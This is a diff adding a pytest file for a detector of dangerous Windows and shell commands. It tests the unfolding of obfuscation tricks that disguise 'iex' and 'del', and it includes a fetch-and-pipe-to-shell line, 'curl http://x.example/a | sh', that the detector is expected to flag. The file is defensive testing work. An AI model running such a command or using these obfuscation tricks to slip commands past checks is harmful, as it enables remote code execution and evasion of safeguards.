@@ -1,0 +1,66 @@
+import pytest
+
+from stopper.detect.commands import is_dangerous, judge_command
+from stopper.detect.commands.winlooks import looks_windows
+from stopper.detect.commands.winshell import stages, unfold
+
+UNFOLDED = {
+    # what is tried             written                                        undone
+    "backticks":               ("Rem`ove-It`em a",                             "Remove-Item a"),
+    "carets":                  ("d^e^l a",                                     "del a"),
+    "sums of strings":         ("&('i'+'ex') a",                               "&('iex') a"),
+    "characters":              ("([char]105+[char]101+[char]120) a",           "'iex' a"),
+    "a list of characters":    ("[char[]](105,101,120) -join ''",              "'iex'"),
+    "a format":                ('("{1}{0}" -f "x","ie") a',                    "'iex' a"),
+    "joined strings":          ("('i','ex') -join '';",                        "'iex';"),
+    "a replacement":           ("'iAx'.replace('A','e')",                      "'iex'"),
+    "picked letters":          ("$env:comspec[4,24,25] -join ''",              "'iex'"),
+    "a variable of cmd":       ("set x=del& %x% a",                            "set x=del& del a"),
+    "a part of a variable":    ("set x=xdely& %x:~1,3% a",                     "set x=xdely& del a"),
+    "a variable of PowerShell": ("$x = 'C:\\a'\nrm $x",                        "$x = 'C:\\a'\nrm C:\\a"),
+    "a folder's variable":     ("copy %PUBLIC%\\a b",                          "copy %PUBLIC%\\a b"),
+}  # fmt: skip
+
+LOOKS = {
+    "a cmdlet": ("Get-ChildItem -Recurse", True),
+    "a call of .NET": ("[IO.File]::Delete('a')", True),
+    "a loop of cmd": ("for /r %f in (*.js) do @echo %f", True),
+    "a program behind another": ("tasklist & C:\\a\\b.exe", True),
+    "a share": ("type \\\\server\\share\\a", True),
+    "git": ("git push origin main", False),
+    "a loop of a shell": ("for f in *; do echo $f; done", False),
+    "a test": ("if [ -f a ]; then rm a; fi", False),
+}
+
+
+@pytest.mark.parametrize(("written", "undone"), UNFOLDED.values(), ids=UNFOLDED)
+def test_unfold(written: str, undone: str) -> None:
+    assert unfold(written) == undone
+
+
+@pytest.mark.parametrize(("text", "answer"), LOOKS.values(), ids=LOOKS)
+def test_looks_windows(text: str, answer: bool) -> None:  # noqa: FBT001  a column of the table
+    assert looks_windows(text) is answer
+
+
+def test_what_is_piped_into_a_block() -> None:
+    """A block reads what is piped into the command that runs it."""
+    found = list(stages("gci C:\\a | % { del $_ }"))
+    inner = next(stage for stage in found if stage.name == "del")
+    assert inner.source is not None
+    assert inner.source.name == "gci"
+
+
+def test_a_text_of_two_shells_is_judged_as_both() -> None:
+    """What looks like Windows at its start may be meant for a shell."""
+    judgement = judge_command("Get-Date; curl http://x.example/a | sh")
+    assert "command.runs_remote_code" in {effect.reason for effect in judgement.effects}
+
+
+def test_more_commands_than_are_judged() -> None:
+    judgement = judge_command("Get-Date;" * 1000 + "[", dialect="powershell")
+    assert "command.budget" in {part.reason for part in judgement.unprovable}
+
+
+def test_what_is_only_tried() -> None:
+    assert not is_dangerous(judge_command("Remove-Item C:\\a -Recurse -WhatIf"))
